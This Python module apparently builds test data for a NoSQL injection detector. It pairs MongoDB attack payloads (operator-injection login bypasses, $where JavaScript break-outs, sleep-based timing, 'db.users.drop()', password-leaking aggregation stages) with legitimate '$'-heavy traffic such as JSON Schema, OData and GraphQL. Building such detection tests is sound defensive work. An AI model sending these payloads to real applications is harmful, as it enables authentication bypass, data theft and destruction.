"""NoSQL injection payloads built from the techniques, and the legitimate ``$``-rich traffic beside them.

Attacks (MongoDB and other JavaScript-evaluating document stores):

* operator injection: a query operator where the application expects a scalar, as a bracketed
  parameter name (``user[$ne]=x``), a JSON object (``{"$gt": ""}``), a JavaScript object literal
  (``{$ne: 1}``) or a JSON key written with escapes (``"\\u0024ne"``);
* server-side JavaScript: ``$where``/``$function``/``$accumulator`` bodies, and string break-outs
  into a JavaScript expression (``'; return true; var x='``, ``' && this.password.match(/.*/)//``),
  busy loops and ``sleep`` for timing, ``db.<collection>.<method>(...)`` calls;
* aggregation stages that reach other collections or evaluate code (``$lookup``, ``$unionWith``,
  ``$expr``).

Legitimate: JSON Schema (``$schema``, ``$id``, ``$ref``, ``$defs``, ``$comment``), MongoDB
Extended JSON (``$oid``, ``$date``, ``$numberLong``, ``$binary``...), OData query options
(``$filter``, ``$top``, ``$orderby``...), GraphQL documents with variables (``$id``, ``$where`` as
a variable name with an input type), prices (``$5``), jQuery/Vue/PHP/shell ``$`` names in prose
and code, and articles that name the operators in prose.

Every list is combined from parts here, so no public payload collection is copied.
"""

from __future__ import annotations

import itertools
import json

QUERY_OPS = ("$ne", "$gt", "$gte", "$lt", "$lte", "$in", "$nin", "$regex", "$exists", "$eq", "$not", "$nor")
CODE_OPS = ("$where", "$expr", "$function", "$accumulator")
OP_VALUES = ('""', "null", "1", "0", "-1", '"a"', "true", "[]", '["admin", "root"]', '"^a.*"', "undefined")


def _op_objects() -> list[str]:
    """Operator objects as JSON, as JavaScript literals and with escaped keys."""
    out: list[str] = []
    for op, value in itertools.product(QUERY_OPS, OP_VALUES):
        if op in ("$in", "$nin") and not value.startswith("["):
            value = f"[{value}]"
        out.append(f'{{"{op}": {value}}}')
        out.append(f"{{{op}: {value}}}")
    for op in ("$ne", "$gt", "$regex", "$in"):
        out.append('{"\\u0024' + op[1:] + '": ""}')
        out.append("{'" + op + "': ''}")
    out.append('{"$where": "sleep(1000)"}')
    out.append('{"$where": "this.password.length > 0"}')
    out.append('{"$where": "function() { return true; }"}')
    out.append('{"$expr": {"$eq": [1, 1]}}')
    out.append('{"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}')
    out.append('{"$function": {"body": "function() { return true }", "args": [], "lang": "js"}}')
    out.append('{"$function": {"body": "function(p) { sleep(2000); return true }", "args": ["$password"], "lang": "js"}}')
    out.append('{"$accumulator": {"init": "function() { return 0 }", "accumulate": "function(s) { return s }",'
               ' "accumulateArgs": [], "merge": "function(a, b) { return a }", "lang": "js"}}')
    out.append('[{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]')
    out.append('[{"$unionWith": {"coll": "users", "pipeline": [{"$project": {"password": 1}}]}}]')
    out.append('{"$or": [{}, {"a": "a"}]}')
    out.append('{"$nor": [{"role": "guest"}]}')
    out.append('{"$elemMatch": {"$ne": null}}')
    out.append('{"$jsonSchema": {}}')
    return out


def _js_breakouts() -> list[str]:
    """String break-outs into a ``$where`` JavaScript expression, in both quote styles."""
    bodies = (
        "; return true; var x={q}",
        " || {q}1{q}=={q}1",
        " || 1==1//",
        " || 1==1%00",
        " && this.password.match(/.*/)//",
        " && this.passwordzz.match(/.*/)//",
        "; return this.username == {q}admin{q} && this.password != {q}",
        ";sleep(5000);",
        ";sleep(3000); var y={q}",
        "; it=new Date(); do {{ pt=new Date(); }} while (pt-it < 5000); var z={q}",
        "; while(true){{}}; var a={q}",
        "; throw new Error(JSON.stringify(this)); var b={q}",
        " || this.role == {q}admin",
        " && Object.keys(this)[1].match(/^pass/) && {q}1",
        "; return db.getCollectionNames(); var c={q}",
        "}}, {{ password : /.*/ }}",
        ", $where: {q}1 == 1",
        ", $or: [ {{}}, {{ {q}a{q}:{q}a",
    )
    out: list[str] = []
    for q, body in itertools.product(("'", '"'), bodies):
        out.append(q + body.format(q=q))
    out += [
        "true, $where: '1 == 1'",
        "1, $where: '1 == 1'",
        "$where: '1 == 1'",
        "0; return true",
        "1; while(1) {}",
        "this.password.match(/.*/)",
        "this.constructor.constructor('return process')().exit()",
        "db.users.find()",
        "db.injection.insert({success: 1});",
        "db.users.drop()",
        "db.getSiblingDB('admin').system.users.find()",
        "db.orders.mapReduce(function() { emit(1, 1) }, function(k, v) { return 1 }, {out: 'x'})",
        "tojson(db.getCollectionNames())",
        "function() { return this.isAdmin == true }",
        "sleep(1000) || true",
    ]
    return out


def attack_values() -> list[str]:
    """Values an attacker puts in one parameter, header, cookie or JSON string."""
    return _op_objects() + _js_breakouts()


def attack_requests() -> list[tuple[str, str, str, str]]:
    """Whole requests whose structure is the attack: ``(technique, method, uri, body)``.

    Bracketed parameter names (PHP, Express ``qs``) and JSON bodies whose values are operator
    objects, sent to a login and a search endpoint.
    """
    out: list[tuple[str, str, str, str]] = []
    for op, (user, pw) in itertools.product(
        ("$ne", "$gt", "$regex", "$nin", "$exists", "$in", "$where", "$lt", "$nin", "$not"),
        (("admin", "x"), ("", ""), ("a", "1")),
    ):
        suffix = "[]" if op in ("$in", "$nin") else ""
        qs = f"username[{op}]{suffix}={user}&password[{op}]{suffix}={pw}"
        out.append(("bracket-name", "GET", "/user/login?" + qs, ""))
        out.append(("bracket-name", "POST", "/user/login", qs))
        encoded = qs.replace("[", "%5B").replace("]", "%5D").replace("$", "%24")
        out.append(("bracket-name", "GET", "/user/login?" + encoded, ""))
    for op, value in itertools.product(QUERY_OPS, ('""', "null", '"x"', "1", '["a"]')):
        if op in ("$in", "$nin") and not value.startswith("["):
            value = "[" + value + "]"
        if op == "$regex":
            value = '".*"'
        body = f'{{"username": {{"{op}": {value}}}, "password": {{"{op}": {value}}}}}'
        out.append(("json-operator", "POST", "/user/login", body))
    for op in CODE_OPS:
        body = json.dumps({"filter": {op: "this.a == this.a" if op == "$where" else {"$eq": [1, 1]}}})
        out.append(("json-operator", "POST", "/content/search", body))
    out.append(("json-operator", "POST", "/content/search", '{"q": "a", "\\u0024where": "sleep(500)"}'))
    out.append(("json-operator", "POST", "/content/search", '{"pipeline": [{"$lookup": {"from": "users", "as": "x",'
                ' "pipeline": []}}]}'))
    return out


# ---- legitimate -------------------------------------------------------------------------------

_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "$id": "https://app.example.com/schemas/product.json",
    "$comment": "Prices are in cents; see $defs/price.",
    "title": "Product",
    "type": "object",
    "properties": {
        "name": {"type": "string", "minLength": 1},
        "price": {"$ref": "#/$defs/price"},
        "tags": {"type": "array", "items": {"type": "string"}},
    },
    "$defs": {"price": {"type": "integer", "minimum": 0, "$anchor": "price"}},
    "required": ["name", "price"],
}
_EJSON = {
    "_id": {"$oid": "64f1c2a9e13b5c0012ab34cd"},
    "created": {"$date": "2026-11-30T09:15:00Z"},
    "views": {"$numberLong": "1234567890123"},
    "ratio": {"$numberDecimal": "0.125"},
    "avatar": {"$binary": {"base64": "iVBORw0KGgo=", "subType": "00"}},
    "pattern": {"$regularExpression": {"pattern": "^report-", "options": "i"}},
    "ts": {"$timestamp": {"t": 1764494100, "i": 1}},
}
_GRAPHQL = (
    "query GetUser($id: ID!) { user(id: $id) { name email } }",
    "query Products($first: Int = 10, $after: String) { products(first: $first, after: $after) { edges { node { id } } } }",
    "query Users($where: users_bool_exp, $limit: Int) { users(where: $where, limit: $limit) { id name } }",
    "query Find($where: UserWhereInput!) { users(where: $where) { id } }",
    "mutation Rename($id: ID!, $name: String!) { rename(id: $id, name: $name) { ok } }",
    "query Search($in: [String!], $text: String) { search(ids: $in, text: $text) { id } }",
)
_ODATA = (
    "$filter=Price gt 5 and Category eq 'Books'&$top=10",
    "$filter=Name ne null&$orderby=Name desc&$skip=20",
    "$select=Name,Price&$expand=Supplier&$count=true",
    "$filter=contains(Name,'lamp') or startswith(Name,'desk')&$top=50",
    "$search=blue&$top=5",
    "$filter=Created ge 2026-01-01T00:00:00Z and Created lt 2026-02-01T00:00:00Z",
    "$apply=groupby((Category),aggregate(Price with sum as Total))",
)
_PROSE = (
    "Save $5 on orders over $50 this week only.",
    "The plan costs $12/month, or $120 a year; the team plan is $49.",
    "In MongoDB, the $gt operator compares values and $in matches any element of an array.",
    "Avoid $where in production queries: it runs JavaScript on every document.",
    "We moved from $regex filters to a text index, which also made $lookup stages cheaper.",
    "Use $(document).ready() or $.ajax({url: '/user', type: 'GET'}) in legacy pages.",
    "In Vue 2, this.$set(obj, 'key', value) keeps reactivity; $emit('save') notifies the parent.",
    "PHP: $where = \"status = 'open'\"; $in = array(1, 2); echo $where;",
    "Shell: for f in $files; do echo \"$f\"; done && export PATH=$HOME/bin:$PATH",
    "AngularJS exposes $scope, $http and $index inside ng-repeat.",
    "Totals: $1,299.00 (hardware) + $350 (support) = $1,649.00",
    "Template literal: `Hello ${user.name}, you owe $${amount}`",
    "db.collection('users').find() returns a cursor; remember to close the client.",
    "The price went from $10 to $12 ($2 more) because of the new $ tax rule.",
)


def legit_text() -> list[str]:
    """Text a user types or a client sends as one value: prose and code snippets (search boxes,
    comments), GraphQL documents (``?query=`` over GET, or a form field), JSON Schema and Extended
    JSON documents (a filter parameter, a JSON string). They go in the query and in bodies; no
    client puts them in a Referer, a cookie or a path segment."""
    return [*_PROSE, json.dumps(_SCHEMA), json.dumps(_EJSON), *_GRAPHQL]


def legit_values() -> list[str]:
    """Short values a legitimate client puts in any parameter, header, cookie, path segment or
    JSON string."""
    out: list[str] = []
    out += ["$5", "$1,000", "US$ 20", "$9.99/mo", "costs $ 3", "$HOME/.config", "${PWD}/build", "$ref", "$id"]
    out += ['{"$ref": "#/components/schemas/User"}', '{"$oid": "64f1c2a9e13b5c0012ab34cd"}']
    out += ['{"amount": "$12.50", "currency": "USD"}', '{"label": "$ off", "value": 5}']
    return out


def legit_requests() -> list[tuple[str, str, str, str]]:
    """Whole legitimate requests: ``(kind, method, uri, body)``."""
    out: list[tuple[str, str, str, str]] = []
    for qs in _ODATA:
        out.append(("odata", "GET", "/user/products?" + qs, ""))
        out.append(("odata", "GET", "/user/products?" + qs.replace("$", "%24").replace(" ", "%20"), ""))
    for doc in _GRAPHQL:
        variables: dict[str, object] = {"id": "42", "first": 10, "name": "Lamp"}
        if "$where" in doc:
            variables = {"where": {"name": {"_eq": "Ada"}}, "limit": 5}
        out.append(("graphql", "POST", "/content/graphql", json.dumps({"query": doc, "variables": variables})))
    out.append(("json-schema", "POST", "/content/schemas", json.dumps(_SCHEMA)))
    out.append(("json-schema", "POST", "/content/schemas", json.dumps({**_SCHEMA, "$id": "urn:ex:order",
                                                                       "title": "Order"}, indent=2)))
    out.append(("extended-json", "POST", "/content/import", json.dumps(_EJSON)))
    out.append(("extended-json", "POST", "/content/import", json.dumps([_EJSON, {**_EJSON, "views": 3}])))
    out.append(("openapi", "POST", "/content/specs", json.dumps({
        "openapi": "3.1.0",
        "paths": {"/users/{id}": {"get": {"responses": {"200": {"content": {"application/json": {
            "schema": {"$ref": "#/components/schemas/User"}}}}}}}},
        "components": {"schemas": {"User": {"type": "object", "properties": {"id": {"type": "string"}}}}},
    })))
    out.append(("price", "POST", "/content/products", json.dumps({"name": "Desk lamp", "price": "$39.99",
                                                                  "note": "was $49, now $39.99"})))
    out.append(("price", "GET", "/content/search?q=lamp+under+%2450&max=%2450", ""))
    out.append(("price", "POST", "/content/products", "name=Lamp&price=%2439.99&note=save+%245"))
    return out
